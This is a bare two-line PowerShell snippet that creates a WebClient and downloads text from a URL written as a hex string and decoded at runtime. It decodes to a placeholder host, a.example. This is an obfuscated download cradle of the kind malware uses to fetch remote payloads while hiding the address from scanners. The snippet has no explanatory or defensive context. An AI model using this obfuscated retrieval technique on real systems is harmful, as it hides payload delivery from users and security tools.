$wc = New-Object System.Net.WebClient
$wc.DownloadString((-join ([regex]::Matches('687474703a2f2f612e6578616d706c652f702f782e747874','..') | %{[char][convert]::ToInt32($_.Value,16)})))
